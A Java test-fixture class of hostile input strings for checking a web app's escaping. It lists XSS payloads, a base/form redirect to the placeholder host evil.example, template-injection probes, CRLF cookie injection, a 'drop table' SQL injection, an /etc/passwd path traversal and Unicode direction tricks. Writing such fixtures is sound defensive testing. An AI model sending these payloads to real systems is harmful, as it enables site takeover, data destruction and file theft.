package orquesta.web;

import java.util.List;

/** Text that tries to be something else: a tag, a script, an attribute, a header, a template, another direction. */
public final class HostileStrings {
    public static final List<String> ALL = List.of(
            "<script>document.title='owned'</script>",
            "</script><script>document.title='owned'</script>",
            "<img src=x onerror=\"document.title='owned'\">",
            "\"><svg onload=document.title='owned'>",
            "' onmouseover='document.title=1",
            "\" autofocus onfocus=\"document.title=1",
            "</textarea></title></style></pre></template></svg><h1>owned</h1>",
            "<!-- never closed",
            "<![CDATA[ <b>bold</b> ]]>",
            "<style>*{display:none}</style>",
            "<a href=\"javascript:document.title='owned'\">click</a>",
            "<base href=//evil.example><form action=//evil.example>",
            "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
            "&lt;b&gt; &amp;lt; &#60;script&#62; &quot;",
            "javascript:document.title='owned'",
            "${7*7} #{7*7} {{7*7}} <%= 7*7 %> @if(true) $unsafe{1}",
            "{0} {1} {99}",
            "%s %d %n",
            "line one\r\nSet-Cookie: owned=1\r\n\r\n<h1>owned</h1>",
            "event: run\ndata: {}\n\nid: 999999",
            "null\u0000byte bell\u0007 escape\u001b[31mred\u001b[0m backspace\b",
            "right\u202eto left\u202c, isolate\u2067x\u2069, mark\u200f",
            "zero\u200bwidth\ufeff, soft\u00adhyphen",
            "n\u0303 e\u0301\u0301\u0301\u0301\u0301\u0301 \ud83d\udc69\u200d\ud83d\udcbb \ud800",
            "'; drop table event; --",
            "../../../../etc/passwd",
            "a".repeat(300),
            "\u6f22".repeat(80) + " \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
            "   ");

    /** Those that say what they do as a whole text alone: an address, a length, nothing. */
    static final List<String> ALONE = ALL.stream()
            .filter(text -> text.startsWith("javascript:") || text.length() > 90 || text.isBlank())
            .toList();

    private HostileStrings() {}
}
